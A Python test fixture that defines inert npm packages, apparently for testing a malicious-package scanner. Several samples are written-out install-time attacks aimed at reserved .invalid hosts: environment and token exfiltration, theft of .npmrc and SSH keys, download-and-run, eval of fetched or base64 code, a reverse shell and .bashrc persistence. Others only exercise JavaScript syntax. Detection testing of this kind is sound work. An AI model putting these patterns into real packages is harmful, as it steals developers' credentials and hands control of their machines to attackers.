# SPDX-License-Identifier: Apache-2.0
"""Inert npm packages: {name: ({path: text}, what is run)}. Hosts are reserved names; nothing of it is run without recorders."""
import json


def package(main="index.js", **more):
    return json.dumps({"name": "fixture", "version": "1.0.0", "main": main, **more}, indent=2) + "\n"


PROGRAMS = {
    "env-post": ({"index.js": '''const https = require('https');
const os = require('os');

const data = JSON.stringify({ env: process.env, host: os.hostname() });
const req = https.request({ hostname: 'collect.invalid', path: '/in', method: 'POST' }, (res) => {
  res.on('data', (chunk) => console.error(String(chunk)));
});
req.write(data);
req.end();
''', "package.json": package(scripts={"postinstall": "node index.js"})}, "index.js"),
    "download-run": ({"install.js": '''"use strict";
var fs = require("fs"), http = require("http"), cp = require("child_process")
var target = "/tmp/.helper"
function fetchFile(url, done) {
  http.get(url, function (res) {
    var out = fs.createWriteStream(target)
    res.pipe(out)
    out.on("finish", function () { done(null, target) })
  })
}
fetchFile("http://files.invalid/p.bin", function (err, file) {
  if (err) return
  fs.chmodSync(file, 0o755)
  cp.spawn(file, ["--quiet"], { detached: true, stdio: "ignore" }).unref()
})
''', "package.json": package("install.js", scripts={"install": "node install.js"})}, "install.js"),
    "eval-fetched": ({"index.js": '''fetch("https://code.invalid/next.js").then(r => r.text()).then(t => {
  try { eval(t) } catch (e) { require("fs").writeFileSync("/tmp/e", e.name) }
})
''', "package.json": package()}, "index.js"),
    "decoded": ({"index.js": '''const hidden = Buffer.from("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2VjaG8gaW5lcnQnKQ==", "base64").toString();
eval(hidden);
''', "package.json": package()}, "index.js"),
    "modules": ({"index.js": '''const { gather } = require('./lib/gather');
const send = require('./send');

send(gather(['NPM_TOKEN', 'GITHUB_TOKEN']), { tries: 2 });
module.exports = { version: "1" };
''', "lib/gather.js": '''exports.gather = function (names) {
  return names.reduce((all, n) => Object.assign(all, { [n]: process.env[n] }), {});
};
''', "send.js": '''const https = require('https');
module.exports = function send(body, options = {}) {
  const { tries = 1, host = 'two.invalid' } = options;
  for (let i = 0; i < tries; i++) {
    const r = https.request({ hostname: host, method: 'POST', headers: { 'X-Try': String(i) } });
    r.end(JSON.stringify(body));
  }
};
''', "package.json": package()}, "index.js"),
    "class": ({"index.js": '''const fs = require("fs");
const os = require("os");

class Reader {
  #count = 0;
  static kind = 'reader';
  constructor(root) { this.root = root; }
  get label() { return `${Reader.kind}:${this.#count}`; }
  read(name) {
    this.#count++;
    return fs.readFileSync(this.root + "/" + name, "utf8");
  }
  async *each(names) {
    for (const n of names) yield [n, this.read(n)];
  }
}

(async () => {
  const reader = new Reader(os.homedir());
  const found = {};
  for await (const [k, v] of reader.each([".npmrc", ".ssh/id_rsa"])) found[k] = v;
  await fetch("https://drop.invalid/up", { method: "POST", body: JSON.stringify({ found, label: reader.label }) });
})();
''', "package.json": package()}, "index.js"),
    "no-semicolons": ({"index.js": '''const cp = require('child_process')
const list = ['one', 'two']
let n = 0
list.forEach(x => {
  n += 1
  cp.exec('echo ' + x + ' ' + n)
})
const f = function () { return n }
;[1, 2].map(v => cp.exec('echo num ' + (v + f())))
const g = () => ({ a: 1, b: [2, 3] })
const { a, b: [c] } = g()
cp.exec(`echo ${a} ${c} ${ `in ${a}` }`)
if (n / 2 > 0) cp.exec('half ' + n / 2 / 1)
else cp.exec('none')
do n--
while (n > 0)
cp.exec("n is " + n)
''', "package.json": package()}, "index.js"),
    "regex": ({"index.js": '''var cp = require('child_process');
var text = 'a/b "c" /d/ it\\'s';
var parts = text.split(/[\\/'"]+/g).filter(function (p) { return /\\S/.test(p); });
var r = /=/ .test('x=1') ? 'yes' : "no";
cp.execSync(['run'].concat(parts).join(' ') + r.replace(/y/, 'Y'));
var x = 4, g = 2, y = x /2/ g;
cp.execSync('y ' + y);
switch (y) {
  case 1: { cp.execSync('one'); break; }
  default: cp.execSync("other \\x41\\u0042");
}
outer: for (var i = 0; i < 3; i++) {
  for (;;) { if (i == 1) break outer; continue outer; }
}
cp.execSync('i ' + i);
''', "package.json": package()}, "index.js"),
    "callbacks": ({"index.js": '''const EventEmitter = require('events');
const http = require('http');
const bus = new EventEmitter();

bus.on('ready', (d) => {
  const r = http.request({ hostname: 'bus.invalid', method: 'POST' });
  r.write(JSON.stringify(d ?? null));
  r.end();
});
setTimeout(() => bus.emit('ready', { user: process.env.USER, deep: process.env?.HOME?.length }), 1000);
process.nextTick(function () { bus.emit('ready', [1, , 3].length); });
''', "package.json": package()}, "index.js"),
    "hoisted": ({"index.js": '''main();

function main() {
  helper('first', 1);
  var later = second;
  later();
}
function helper(name, n) { require('fs').writeFileSync('/tmp/' + name, String(n)); }

async function second() {
  helper(`second`, await Promise.resolve(2));
}
var last = helper;
last("third", typeof undefinedThing);
''', "package.json": package()}, "index.js"),
    "esm": ({"index.mjs": '''import fs from 'fs';
import { homedir } from 'os';
import * as cp from 'child_process';
import { send as push } from './send.mjs';

export const version = '1';
const text = fs.readFileSync(`${homedir()}/.npmrc`, 'utf8');
push(text);
cp.exec('echo esm');
export default function run() { return version; }
''', "send.mjs": '''export function send(body) {
  return fetch('https://esm.invalid/', { method: 'PUT', body });
}
''', "package.json": package("index.mjs")}, "index.mjs"),
    "reverse-shell": ({"index.js": '''(function(){
    var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
    var client = new net.Socket();
    client.connect(4444, "shell.invalid", function(){
        client.pipe(sh.stdin);
        sh.stdout.pipe(client);
        sh.stderr.pipe(client);
    });
    return /a/;
})();
''', "package.json": package()}, "index.js"),
    "prototype": ({"index.js": '''function Collector(url) { this.url = url; this.items = []; }
Collector.prototype.add = function add(name, value) {
  this.items.push({ name: name, value: value });
  return this;
};
Collector.prototype.send = function () {
  var self = this;
  return this.items.map(function (item) { return require('axios').post(self.url, item); });
};
var c = new Collector('https://proto.invalid/c');
c.add('token', process.env.NPM_TOKEN).add("home", process.env["HOME"]).send();
''', "package.json": package()}, "index.js"),
    "tables": ({"index.js": '''const fs = require('fs');
const actions = {
  write(p) { fs.writeFileSync(p, 'x'); },
  'remove': (p) => fs.unlinkSync(p),
  get size() { return 2; },
  ["co" + "py"](p) { fs.copyFileSync(p, p + '.bak'); },
};
for (const [name, path] of Object.entries({ write: '/tmp/a', remove: '/tmp/b', copy: '/tmp/c' })) actions[name](path);
const tag = (s, ...v) => s.raw.join('|') + v.join(',');
fs.writeFileSync('/tmp/tag', tag`a${actions.size}b\\n${'c'}`);
const { length, ...rest } = { length: 1, z: 2 };
fs.writeFileSync('/tmp/rest', JSON.stringify(rest) + length);
''', "package.json": package()}, "index.js"),
    "persist": ({"bin/setup.js": '''#!/usr/bin/env node
const fs = require('fs'), path = require('path'), os = require('os');
const rc = path.join(os.homedir(), '.bashrc');
const line = "\\nnode " + path.join('/opt', 'x.js') + ' &\\n';
fs.appendFileSync(rc, line);
try {
  fs.mkdirSync(path.join(os.homedir(), '.config', 'autostart'), { recursive: true });
  throw new Error("it's \\"quoted\\"");
} catch ({ message }) {
  fs.writeFileSync('/tmp/message', message);
} finally {
  fs.chmodSync('/tmp/message', 0o600);
}
''', "package.json": package("bin/setup.js", bin={"fixture": "bin/setup.js"}, scripts={"preinstall": "node bin/setup.js"})}, "bin/setup.js"),
    "strict-types": ({"index.js": '''\'use strict\';

const cp = require('child_process');
let undef;
function whoami() { return typeof this; }
const out = [whoami(), whoami.call(5), [].concat.apply([], [[1], [2]]).length];
cp.spawnSync('echo', out.map(String));
new (class { run(x = 'd') { cp.execFileSync('/bin/echo', [x]); } })().run();
void (async function named() { await null; cp.fork('/tmp/p.js', [named.name === 'x' ? 'a' : 'b']); })();
label: { if (undef === void 0) break label; cp.exec('never'); }
''', "package.json": package()}, "index.js"),
    "dead-drop": ({"index.js": '''const https = require('https');
const vm = require('vm');
https.get('https://paste.invalid/raw/1', (res) => {
  let body = '';
  res.setEncoding('utf8');
  res.on('data', d => { body += d; });
  res.on('end', () => {
    const host = body.slice(4, 9);
    require('net').connect({ host: host, port: 0x1f90 });
    vm.runInNewContext('1 + 1');
  });
});
''', "package.json": package()}, "index.js"),
}
